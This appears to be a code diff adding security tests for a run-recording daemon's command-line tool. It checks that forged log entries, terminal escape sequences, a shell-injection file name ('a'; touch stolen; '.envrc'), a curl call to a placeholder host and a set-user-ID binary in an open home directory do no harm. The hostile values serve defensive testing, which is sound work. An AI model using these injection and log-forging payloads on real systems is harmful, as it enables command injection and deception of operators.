@@ -56,6 +56,39 @@ describe("a careless or hostile caller does not end the daemon, or hold it", () 
   });
 });
 
+describe("words of a run are words, whatever they hold", () => {
+  const FORGED = "/tmp/x\n    99  10:00:00.000  r-fake  action         allow  granted\u001b[2J\u202e\u009b";
+
+  test("a program's name forges no entry and commands no terminal", async () => {
+    const script = 'cp /bin/true "$1"; "$1"; curl -s "http://x.example/$1" >/dev/null; true';
+    assert.equal((await home.run(["sh", "-c", script, "sh", FORGED])).code, 0);
+    const entry = (await home.log()).findLast(({ target }) => target === FORGED);
+    assert.equal(entry?.type, "process.start", "in the record it stands as it is");
+    for (const shown of [await home.call(["log"]), await home.call(["ps", "--all"])]) {
+      assert.doesNotMatch(shown.stdout, /^ *99 .*r-fake/m);
+      assert.doesNotMatch(shown.stdout, /[\u001b\u202e\u009b]/);
+    }
+    const { stdout } = await home.call(["log", "--json"]);
+    assert.doesNotMatch(stdout, /[\u001b\u202e\u009b]/, "JSON is printed, too");
+  });
+
+  test("INV-16: the command that apply tells for a held file is one command", async () => {
+    const name = "a'; touch stolen; '.envrc";
+    const script = 'mkdir -p "$1" && echo x > "$1/.envrc"';
+    const { stderr } = await home.run(["sh", "-c", script, "sh", name], ["--json"]);
+    const run = /"run":"(r-[0-9a-z]+)"/.exec(stderr)?.[1] ?? "";
+    const { stdout } = await home.call(["apply", run]);
+    const told = /confirm it with --confirm (.*)$/m.exec(stdout)?.[1] ?? "";
+    assert.equal(execFileSync("sh", ["-c", `printf %s ${told}`]).toString(), `${name}/.envrc`);
+  });
+
+  test("fault cli.output: output that nobody takes is told as that", async () => {
+    const { code, stderr } = await home.shell('"$0" run -- sh -c "echo x" > /dev/full', home.workspace);
+    assert.equal(code, 125);
+    assert.match(stderr, /output cannot be written/);
+  });
+});
+
 describe("a run leaves nothing for other users of the machine", () => {
   test("INV-4: a set-user-ID program in an open HOME stays out of everyone's reach", async () => {
     const script = "cp /usr/bin/id ~/id && chmod 6755 ~/id && chmod 777 ~ && stat -c %a ~/id";
